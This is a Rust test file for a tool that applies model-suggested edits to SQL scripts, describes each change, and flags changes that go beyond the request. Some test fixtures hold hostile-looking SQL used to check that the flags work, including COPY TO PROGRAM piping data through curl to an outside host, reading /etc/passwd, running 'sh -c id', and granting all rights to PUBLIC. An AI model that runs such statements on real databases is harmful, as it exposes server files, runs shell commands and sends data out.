//! Changed scripts: what stays, how changes are described, and what goes beyond the request.

use super::*;
use text2sql_domain::schema_fixture::shop;

const SCRIPT: &str = "\
-- Nightly: keeps what was big.
BEGIN;
CREATE TEMP TABLE big AS
  SELECT *            -- all columns
    FROM orders
   WHERE total > 100; -- in euros

INSERT INTO archive (id, total)
  SELECT id, total FROM big;
delete from orders using big where big.id = orders.id;  /* they are in the archive */
COMMIT;
";

fn change(number: usize, action: Action, sql: &str) -> ScriptChange {
    ScriptChange {
        number,
        action,
        sql: sql.to_owned(),
    }
}

fn applied(changes: &[ScriptChange], request: &str) -> RevisedScript {
    apply(SCRIPT, changes, request, &shop()).unwrap()
}

#[test]
fn only_what_differs_is_written_anew() {
    // The model writes the statement in its own layout and without the comment.
    let new =
        "CREATE TEMP TABLE big AS SELECT * FROM orders WHERE total > 250 AND status = 'paid';";
    let revised = applied(
        &[change(2, Action::Change, new)],
        "only paid orders over 250",
    );
    assert_eq!(
        revised.sql,
        SCRIPT.replace("total > 100;", "total > 250 AND status = 'paid';")
    );
    let [statement] = revised.statements.as_slice() else {
        panic!("{revised:?}");
    };
    assert_eq!(statement.number, 2);
    assert_eq!(
        statement.changes,
        [
            "adds the filter total > 250",
            "adds the filter status = 'paid'",
            "drops the filter total > 100"
        ]
    );
    assert_eq!(
        statement.diff,
        "  CREATE TEMP TABLE big AS\n    SELECT *            -- all columns\n      FROM orders\n\
         -    WHERE total > 100\n+    WHERE total > 250 AND status = 'paid'"
    );
    assert_eq!(statement.beyond, Vec::<String>::new());
}

#[test]
fn what_is_put_in_behind_a_comment_has_a_line_of_its_own() {
    let new = "CREATE TEMP TABLE big AS SELECT *, 1 AS kept FROM orders WHERE total > 100";
    let revised = applied(
        &[change(2, Action::Change, new)],
        "keep orders that are kept",
    );
    assert_eq!(
        revised.sql,
        SCRIPT.replace("all columns\n", "all columns\n    , 1 AS kept\n")
    );
}

#[test]
fn a_statement_in_another_spelling_is_no_change() {
    let same = "DELETE FROM orders\nUSING big\nWHERE big.id = orders.id";
    let revised = applied(&[change(4, Action::Change, same)], "keep it");
    assert_eq!(revised.sql, SCRIPT);
    assert!(revised.statements.is_empty());
}

#[test]
fn statements_are_removed_and_added() {
    let revised = applied(
        &[
            change(4, Action::Remove, ""),
            change(3, Action::Add, "ANALYZE archive;"),
            change(0, Action::Add, "SET lock_timeout = '1s'"),
        ],
        "do not delete, analyze instead, with a lock timeout",
    );
    assert_eq!(
        revised.sql,
        SCRIPT
            .replace("BEGIN;", "SET lock_timeout = '1s';\nBEGIN;")
            .replace("FROM big;\n", "FROM big;\nANALYZE archive;\n")
            .replace("delete from orders using big where big.id = orders.id;", "")
    );
    let told: Vec<(usize, &str)> = revised
        .statements
        .iter()
        .map(|one| (one.number, one.changes[0].as_str()))
        .collect();
    assert_eq!(
        told,
        [
            (0, "adds a statement at the beginning"),
            (3, "adds a statement after statement 3"),
            (4, "removes the statement")
        ]
    );
    assert_eq!(revised.statements[2].beyond, ["The statement is removed."]);
}

const BODY: &str = "\
CREATE OR REPLACE FUNCTION close_orders(days int) RETURNS int
LANGUAGE plpgsql AS $body$
DECLARE n int;  -- how many
BEGIN
    -- Paid ones only.
    UPDATE orders SET status = 'closed'
     WHERE status = 'paid'
       AND ordered_on < current_date - days;
    GET DIAGNOSTICS n = ROW_COUNT;
    RETURN n;
END
$body$";

#[test]
fn a_body_keeps_its_layout_and_its_comments() {
    let new = "CREATE OR REPLACE FUNCTION close_orders(days int) RETURNS int LANGUAGE plpgsql AS $body$
        DECLARE n int;
        BEGIN
            UPDATE orders SET status = 'closed' WHERE status IN ('paid', 'sent') AND ordered_on < current_date - days;
            GET DIAGNOSTICS n = ROW_COUNT;
            RETURN n;
        END $body$;";
    let revised = apply(
        BODY,
        &[change(1, Action::Change, new)],
        "sent ones too",
        &[],
    )
    .unwrap();
    assert_eq!(
        revised.sql,
        BODY.replace("status = 'paid'", "status IN ('paid', 'sent')")
    );
    assert_eq!(
        revised.statements[0].changes,
        ["has IN ('paid', 'sent') instead of = 'paid'"]
    );
    assert!(revised.statements[0].beyond.is_empty(), "{revised:?}");
    let definer = BODY.replace("LANGUAGE plpgsql", "LANGUAGE plpgsql SECURITY DEFINER");
    let revised = apply(
        BODY,
        &[change(1, Action::Change, &definer)],
        "sent ones too",
        &[],
    )
    .unwrap();
    assert_eq!(
        revised.statements[0].beyond,
        ["The header of the function changes, not only its body."]
    );
}

#[test]
fn what_nobody_asked_for_is_reported() {
    let beyond = |number: usize, sql: &str, request: &str| {
        let revised = applied(&[change(number, Action::Change, sql)], request);
        revised.statements[0].beyond.clone()
    };
    assert_eq!(
        beyond(4, "DELETE FROM orders", "archive only large ones"),
        [
            "The request names archive, which this statement neither reads nor writes.",
            "It has no WHERE any more, so that it concerns all rows."
        ]
    );
    assert_eq!(
        beyond(
            3,
            "INSERT INTO secrets (id, total) SELECT id, total FROM big",
            "round the total"
        ),
        ["It writes secrets, which it did not before."]
    );
    assert_eq!(
        beyond(
            3,
            "UPDATE archive SET total = 0",
            "change statement 2 to 200"
        ),
        [
            "The request is about statement 2, not about this one.",
            "It is UPDATE instead of INSERT."
        ]
    );
    // A statement that reads what another changed one makes follows from it.
    let revised = applied(
        &[
            change(
                2,
                Action::Change,
                "CREATE TEMP TABLE big AS SELECT *, 1 AS kept FROM orders WHERE total > 100",
            ),
            change(
                3,
                Action::Change,
                "INSERT INTO archive (id, total, kept) SELECT id, total, kept FROM big",
            ),
        ],
        "keep from orders that it was kept",
    );
    assert!(
        revised.statements.iter().all(|one| one.beyond.is_empty()),
        "{revised:?}"
    );
}

#[test]
fn what_goes_takes_its_semicolon_along() {
    let revised = |sql: &str, changes: &[ScriptChange]| apply(sql, changes, "x", &[]).unwrap().sql;
    let remove = change(2, Action::Remove, "");
    let add = change(2, Action::Add, "SELECT 4;");
    for (sql, changes, expected) in [
        (
            "SELECT 1; SELECT 2; SELECT 3;",
            vec![remove.clone()],
            "SELECT 1;  SELECT 3;",
        ),
        (
            "SELECT 1;\nSELECT 2 -- two\n;\nSELECT 3;\n",
            vec![remove.clone()],
            "SELECT 1;\n -- two\nSELECT 3;\n",
        ),
        (
            "SELECT 1;\nSELECT 2;\nSELECT 3;\n",
            vec![remove.clone(), add.clone()],
            "SELECT 1;\nSELECT 4;\nSELECT 3;\n",
        ),
        (
            "SELECT 1;\nSELECT 2 /* two */;\nSELECT 3;\n",
            vec![add.clone(), remove.clone()],
            "SELECT 1;\nSELECT 4;\n /* two */SELECT 3;\n",
        ),
        (
            "SELECT 1;\nSELECT 2",
            vec![remove, add],
            "SELECT 1;\nSELECT 4;\n",
        ),
    ] {
        assert_eq!(revised(sql, &changes), expected, "{sql}");
    }
}

#[test]
fn what_a_new_statement_does_is_told() {
    let syntax = "Only its syntax was checked.";
    let target = "Only its syntax was checked, and whether you may write its target.";
    for (sql, expected) in [
        (
            "COPY big TO PROGRAM 'curl -T - example.com'",
            vec![
                "It runs a program on the server, as the operating-system user of the server: COPY big TO PROGRAM 'curl -T - example.com'.",
                syntax,
            ],
        ),
        (
            "copy big (id) from '/etc/passwd'",
            vec![
                "It reads a file of the server: copy big (id) from '/etc/passwd'.",
                "It adds rows to a table: copy big (id) from ….",
                syntax,
            ],
        ),
        (
            "COPY (SELECT id FROM big) TO '/tmp/big'",
            vec![
                "It writes a file of the server: COPY (SELECT id FROM big) TO '/tmp/big'.",
                syntax,
            ],
        ),
        (
            "DROP TABLE archive",
            vec!["It drops objects: DROP TABLE archive.", target],
        ),
        (
            "DROP ROLE IF EXISTS clerk",
            vec!["It drops objects: DROP ROLE IF EXISTS clerk.", syntax],
        ),
        (
            "GRANT ALL ON big TO PUBLIC",
            vec![
                "It changes who may do what: GRANT ALL ON big TO PUBLIC.",
                syntax,
            ],
        ),
        (
            "ALTER ROLE clerk PASSWORD 'secret'",
            vec![
                "It changes who may do what: ALTER ROLE clerk PASSWORD ….",
                syntax,
            ],
        ),
        (
            "CREATE TABLE servers (owner text)",
            vec![
                "It creates an object: CREATE TABLE servers (owner text).",
                target,
            ],
        ),
        (
            "CREATE CONSTRAINT TRIGGER t AFTER INSERT ON big FOR EACH ROW EXECUTE FUNCTION f()",
            vec![
                "It creates something that acts by itself: CREATE CONSTRAINT TRIGGER t AFTER INSERT ON big FOR EACH ROW EXECUTE FUNCTION f(….",
                syntax,
            ],
        ),
        (
            "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'big'; DELETE FROM archive; END $$",
            vec![
                "It runs a block of statements.",
                "It writes archive.",
                "It puts statements together as text and runs them: these were not checked.",
            ],
        ),
        (
            "DO LANGUAGE plpython3u $$ import os $$",
            vec![
                "It runs a block of statements.",
                "Its body is written in plpython3u: what it does was not checked.",
            ],
        ),
        (
            "INSERT INTO archive SELECT id FROM big",
            vec!["It writes archive."],
        ),
        (
            "WITH gone AS (DELETE FROM archive RETURNING id) SELECT id FROM gone",
            vec!["It writes archive.", syntax],
        ),
        ("SELECT id FROM big", vec![]),
        (
            "COMMIT",
            vec!["It begins or ends a transaction, or a part of one."],
        ),
        (
            "NOTIFY clerks",
            vec!["It is not known what it does: NOTIFY clerks.", syntax],
        ),
    ] {
        let revised = applied(&[change(3, Action::Add, sql)], "x");
        let told = &revised.statements[0].beyond;
        assert_eq!(told[0], "The statement is new.");
        assert_eq!(told[1..], expected, "{sql}");
    }
}

#[test]
fn what_is_hard_to_undo_is_told_of_changed_statements_too() {
    let beyond = |sql: &str, new: &str| {
        let revised = apply(sql, &[change(1, Action::Change, new)], "x", &[]).unwrap();
        revised.statements[0].beyond.clone()
    };
    assert_eq!(
        beyond(
            "COPY big TO PROGRAM 'gzip'",
            "COPY big TO PROGRAM 'sh -c id'"
        ),
        [
            "It runs a program on the server, as the operating-system user of the server: COPY big TO PROGRAM 'sh -c id'.",
            "Only its syntax was checked."
        ]
    );
    assert_eq!(
        beyond(
            "DO $$ BEGIN DELETE FROM big; END $$",
            "DO $$ BEGIN DELETE FROM big; DROP TABLE orders; END $$"
        ),
        [
            "It writes orders, which it did not before.",
            "It drops objects: DROP TABLE orders."
        ]
    );
    assert_eq!(
        beyond("UPDATE big SET a = 1", "UPDATE big SET a = 2"),
        Vec::<String>::new()
    );
}

#[test]
fn replies_that_cannot_be_applied_say_why() {
    let problem = |changes: &[ScriptChange]| apply(SCRIPT, changes, "x", &[]).unwrap_err();
    assert_eq!(
        problem(&[change(6, Action::Change, "SELECT 1")]),
        "there is no statement 6: the script has 5"
    );
    assert_eq!(
        problem(&[change(0, Action::Remove, "")]),
        "there is no statement 0: the script has 5"
    );
    assert_eq!(
        problem(&[
            change(2, Action::Change, "SELECT 1"),
            change(2, Action::Remove, "")
        ]),
        "statement 2 is changed twice"
    );
    assert_eq!(
        problem(&[change(2, Action::Change, "SELECT 1; SELECT 2")]),
        "\"sql\" of statement 2 has 2 statements instead of one"
    );
    assert_eq!(
        problem(&[change(2, Action::Change, " -- nothing")]),
        "\"sql\" of statement 2 has 0 statements instead of one"
    );
}

#[test]
fn scripts_are_told_from_queries() {
    for (sql, expected) in [
        ("SELECT 1", false),
        ("WITH a AS (SELECT 1) SELECT * FROM a", false),
        (
            "WITH a AS (SELECT 1 AS x) INSERT INTO t SELECT x FROM a",
            true,
        ),
        (
            "WITH a AS (DELETE FROM t RETURNING x) SELECT * FROM a",
            true,
        ),
        ("-- first\nselect 1;", false),
        ("(SELECT 1)", false),
        ("SELEKT 1", false),
        ("SELECT 1; SELECT 2", true),
        ("INSERT INTO t SELECT 1", true),
        ("create view v as select 1", true),
        ("DO $$ BEGIN NULL; END $$", true),
        ("", false),
    ] {
        assert_eq!(is_script(sql).unwrap(), expected, "{sql}");
    }
    assert_eq!(
        numbered("-- a\nSELECT 1; SELECT 2; -- b\n"),
        "-- a\n[1]\nSELECT 1; \n[2]\nSELECT 2; -- b\n"
    );
}

#[test]
fn a_query_stands_for_what_writes() {
    let query = |sql: &str| match checked(sql).unwrap().pop() {
        Some(Checked::Query(query)) => query,
        other => panic!("{sql}: {other:?}"),
    };
    for (sql, expected) in [
        ("INSERT INTO a (x) SELECT y FROM b", "SELECT y FROM b"),
        ("CREATE VIEW v AS SELECT y FROM b", "SELECT y FROM b"),
        ("CREATE TABLE t AS SELECT y FROM b", "SELECT y FROM b"),
        (
            "UPDATE a SET x = b.y, z = DEFAULT FROM b WHERE b.i = a.i",
            "SELECT b.y FROM a, b WHERE b.i = a.i",
        ),
        (
            "DELETE FROM a USING b WHERE b.i = a.i",
            "SELECT 1 FROM a, b WHERE b.i = a.i",
        ),
        (
            "MERGE INTO a USING b ON a.i = b.i WHEN MATCHED THEN UPDATE SET x = b.y",
            "SELECT 1 FROM a JOIN b ON a.i = b.i",
        ),
    ] {
        assert_eq!(query(sql), expected);
    }
    assert_eq!(
        checked("INSERT INTO a VALUES (DEFAULT)").unwrap(),
        [Checked::Syntax("INSERT INTO a VALUES (DEFAULT)".to_owned())]
    );
    assert!(matches!(
        checked("DO $$ BEGIN DELETE FROM a WHERE x = n; END $$")
            .unwrap()
            .as_slice(),
        [Checked::Syntax(_), Checked::Body { .. }]
    ));
    let needs = |sql: &str| -> Vec<(String, &str, String)> {
        written(sql)
            .unwrap()
            .into_iter()
            .map(|one| (one.name.join("."), one.right, one.columns.join(",")))
            .collect()
    };
    let one = |name: &str, right, columns: &str| (name.to_owned(), right, columns.to_owned());
    assert_eq!(
        needs("INSERT INTO s.a (x, Y) SELECT 1, 2"),
        [one("s.a", "INSERT", "x,y")]
    );
    assert_eq!(needs("UPDATE a SET x = 1"), [one("a", "UPDATE", "x")]);
    assert_eq!(needs("CREATE TEMP TABLE t AS SELECT 1"), []);
    assert_eq!(
        needs(
            "MERGE INTO a USING b ON a.i = b.i WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT (i) VALUES (b.i)"
        ),
        [one("a", "DELETE", ""), one("a", "INSERT", "i")]
    );
    assert_eq!(
        needs("DO $$ BEGIN TRUNCATE a; DROP TABLE b; END $$"),
        [one("a", "TRUNCATE", ""), one("b", "OWNER", "")]
    );
}

#[test]
fn hostile_texts_are_changed_without_a_loss() {
    for (old, new) in [
        ("SELECT 'a", "SELECT $$b"),
        ("a--b\nc", "ac"),
        ("a/*x*/b", "a b c"),
        ("$x$ a $x$", "$x$ b -- $x$"),
        ("€ä", "ä€"),
        ("", "x"),
        ("x", ""),
        ("SELECT a -- c", "SELECT a, b"),
    ] {
        let text = same_text::in_text_of(old, new);
        let kept: String = text.split_whitespace().collect();
        for word in new.split_whitespace().filter(|word| word.len() == 1) {
            assert!(kept.contains(word), "{old} -> {new}: {text}");
        }
    }
    let long = "SELECT 1, ".repeat(4_000);
    let other = "SELECT 2; ".repeat(4_000);
    same_text::in_text_of(&long, &other);
}
